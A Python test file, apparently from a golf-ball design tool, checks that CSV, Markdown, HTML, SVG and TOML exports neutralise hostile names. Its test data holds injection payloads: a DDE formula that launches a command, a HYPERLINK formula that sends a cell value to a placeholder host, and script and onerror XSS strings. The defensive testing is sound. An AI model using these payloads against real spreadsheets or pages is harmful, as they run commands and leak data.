"""Hostile names and sources: refused in one sentence, or shown as they are in every form."""

import csv
import io
import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pydantic import ValidationError

from layers.ball import MOST_NAME, Ball
from layers.ball_file import ball_from_table, ball_toml, read_ball
from layers.errors import CONTROLS, InputError
from layers.estimation import estimate
from layers.files.escaping import csv_cell, csv_text, from_csv_cell, md_text
from layers.files.toml import parse_toml
from layers.materials import default_catalogue
from layers.strike.swings import SwingTable, default_swings
from optimize.calibration.strike_fit import swings_toml
from optimize.lab.measurements import measurements_from_csv
from optimize.lab.process import Process
from optimize.lab.prototype import prototype_sheet
from optimize.ledger.export import export_ledger, part_of
from optimize.ledger.ledger import Ledger
from optimize.report.ball import estimate_sections
from optimize.report.comparison import comparison_csv, from_first
from optimize.report.pictures.section import draw_ball, save
from optimize.report.pictures.slopes import draw_slopes
from optimize.report.sheet import to_csv, to_html, to_markdown
from optimize.report.tables import Section, columns, markdown
from optimize.sensitivity.slopes import sensitivities
from tests.helpers.ledgers import CONTENT, KEY, found
from tests.optimize.commands.test_app import TWO, refused

HOSTILE = (
    '=HYPERLINK("http://bench.example/?"&A1,"K1")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3|x",
    "'=1",
    "''-1",
    "＝1+1",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><script>alert(1)</script>",
    "a | b || c",
    "[K1](javascript:alert(1)) ![](http://bench.example/x.png)",
    "# `K1` *so* __so__ ~~so~~ _so_",
    "&lt;b&gt; &#60;",
    "- K1",
    "1. K1",
    "$\\frac{1}{$ \\input x",
    "K1 Größe №7 球 \u2028 next",
    "\"\"\"'''\\",
    "K1,K2;K3\t".strip(),
)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

names = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=MOST_NAME).filter(
    lambda text: not CONTROLS.search(text) and not set("\t\n\r") & set(text)
)
HTML = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def named(name: str) -> Ball:
    """Return a ball whose name, card and source are the same hostile text."""
    ball = read_ball(TWO)
    cover = ball.layer[-1]
    card = cover.material.model_dump() | {"name": name[:80]}
    card["friction"] = {"value": 0.3, "source": name}
    layer = cover.model_copy(update={"material": type(cover.material).model_validate(card)})
    return Ball.model_validate(
        {**dict(ball), "name": name, "layer": (*ball.layer[:-1], layer)},
    )


def sheet_of(name: str):
    ball = named(name)
    stages = [estimate(ball.stage(n), ("mass_g", "diameter_mm")) for n in (1, 2)]
    return prototype_sheet(ball, stages, Process(source=name))


class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)

    def handle_data(self, data):
        self.text += data


def read_html(text: str) -> _Page:
    page = _Page()
    page.feed(text)
    page.close()
    return page


def spaced(text: str) -> str:
    return " ".join(text.split())


# CSV.


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(st.text())
@example("'=1")
@example(" \t=1")
def test_a_cell_is_no_formula_and_comes_back(text):
    written = csv_cell(text)
    try:
        float(text)
    except ValueError:
        assert not written.lstrip(" ").startswith(FORMULA)
    else:
        assert written == text
    assert from_csv_cell(written) == text


@pytest.mark.parametrize("value", [-1.5, 0.0, None, True, "-1.5", "+2", "1e-3", "-inf"])
def test_numbers_are_left_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("name", HOSTILE)
def test_tables_as_csv_hold_no_formula(name, tmp_path):
    built = [estimate(b, ("mass_g",)) for b in (named(name), named(name))]
    report = comparison_csv(built, from_first(built))
    texts = [report, to_csv(sheet_of(name)), csv_text([name, "x"], [[name, -1.0]])]
    with Ledger(tmp_path / "l.sqlite") as ledger:
        ledger.add(KEY, CONTENT, name, found(mass_g=1.0))
        export_ledger(ledger, part_of(ledger, None, None), tmp_path / "l.csv")
    texts.append((tmp_path / "l.csv").read_text(encoding="utf-8"))
    for text in texts:
        cells = [cell for row in rows_of(text) for cell in row]
        assert name in map(from_csv_cell, cells)
        for cell in cells:
            assert csv_cell(cell) in (cell, f"'{cell}")
            assert not cell.startswith(FORMULA) or float(cell) < 0.0


@pytest.mark.parametrize("name", HOSTILE)
def test_a_filled_in_sheet_finds_its_build_again(name):
    sheet = sheet_of(name)
    head, *rows = rows_of(to_csv(sheet))
    for row in rows:
        if row[head.index("kind")] == "measure":
            row[head.index("piece_1")] = row[head.index("target")]
    text = io.StringIO()
    csv.writer(text).writerows([head, *rows])
    taken = measurements_from_csv([("sheet.csv", text.getvalue())], [named(name)])
    assert {reading.build for reading in taken.reading} == {name}


# Markdown.


@given(names)
@example("a\\")
def test_markdown_shows_a_text_and_nothing_else(text):
    sections = [
        Section(text, columns("x", text), ((text, f"**{text}**"), ("1", "2")), (text, text)),
        Section("", notes=("end",)),
    ]
    page = read_html(HTML.render(markdown(sections, text)))
    allowed = {"h1", "h2", "p", "table", "thead", "tbody", "tr", "th", "td", "strong"}
    assert page.tags <= allowed
    assert page.text.count(spaced(text)) >= (3 if spaced(text) else 0)
    assert HTML.renderInline(md_text(text)).count("<") == 0


@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_of_reports_and_sheets_makes_no_element_of_a_name(name):
    found_ = estimate(named(name), ("mass_g",))
    for text in (
        markdown(estimate_sections(found_, None, ()), name),
        to_markdown(sheet_of(name)),
    ):
        page = read_html(HTML.render(text))
        assert not {"script", "img", "a", "code", "del"} & page.tags
        assert spaced(name) in spaced(page.text)


# HTML, SVG, TOML, JSON.


@pytest.mark.parametrize("name", HOSTILE)
def test_a_sheet_as_html_makes_no_element_of_a_name(name):
    page = read_html(to_html(sheet_of(name)))
    assert not {"script", "img", "a"} & page.tags
    assert name in page.text


def drawn(name: str, path: Path) -> list[set[str]]:
    """Return the elements that each drawing has."""
    slopes = sensitivities(named(name), ("mass_g",))
    found = []
    for picture in (draw_ball(named(name)), draw_slopes(slopes)):
        save(picture, path)
        found.append({element.tag for element in ET.parse(path).iter()})
    return found


def test_drawings_are_well_formed_and_get_no_element_from_a_name(tmp_path):
    plain = drawn("K1", tmp_path / "plain.svg")
    for name in HOSTILE:
        if set("<&$\\") & set(name):
            for hostile, usual in zip(drawn(name, tmp_path / "a.svg"), plain, strict=True):
                assert hostile <= usual


@given(names)
def test_names_and_sources_come_back_from_toml(name):
    ball = named(name)
    again = ball_from_table(parse_toml(ball_toml(ball), "b.toml"), default_catalogue(), "b.toml")
    assert again.name == name
    assert again.layer == ball.layer
    swing = default_swings().swing[0].model_copy(update={"source": name, "club": name[:40]})
    table = SwingTable(swing=(swing,))
    assert SwingTable.from_toml(swings_toml(table)) == table
    assert json.loads(json.dumps(estimate(ball, ("mass_g",)).as_record()))["ball"]["name"] == name


@pytest.mark.parametrize("name", ["x" * MOST_NAME, "=" * MOST_NAME])
def test_the_longest_name_is_long_enough_for_stages_and_members(name):
    ball = named(name)
    for part in (ball.stage(1), ball.named("AB")):
        assert len(part.name) == MOST_NAME
        again = ball_from_table(parse_toml(ball_toml(part), "b"), default_catalogue(), "b")
        assert again.name == part.name


CONTROLLED = ("a\0b", "\x1b[31mK1", "K1\x7f", "K1\x85", "\u202egpj.exe", "K1\u2066")


@pytest.mark.parametrize("name", [*CONTROLLED, "K1\nK2", "K1\tK2", "\ud800"])
def test_control_characters_in_names_are_refused(name):
    with pytest.raises(ValidationError):
        Ball(name=name, layer=read_ball(TWO).layer)
    with pytest.raises(ValidationError):
        Process(source=name if name in CONTROLLED else "\0")


@pytest.mark.parametrize("name", CONTROLLED)
def test_control_characters_in_files_are_refused_in_one_sentence(name, tmp_path):
    path = tmp_path / "b.toml"
    text = TWO.read_text(encoding="utf-8")
    for written in (json.dumps(name), f'"{name}"'):  # as an escape, and as it is
        path.write_text(text.replace('name = "', f"name = {written}#", 1), encoding="utf-8")
        told = refused("estimate", path)
        assert "control character" in told
        assert told.count("\n") == 1
        assert told.strip().isprintable()


def test_a_file_name_with_control_characters_is_refused(tmp_path):
    path = tmp_path / "a\x1bb.toml"
    path.write_bytes(TWO.read_bytes())
    with pytest.raises(InputError, match="rename the file"):
        read_ball(path)
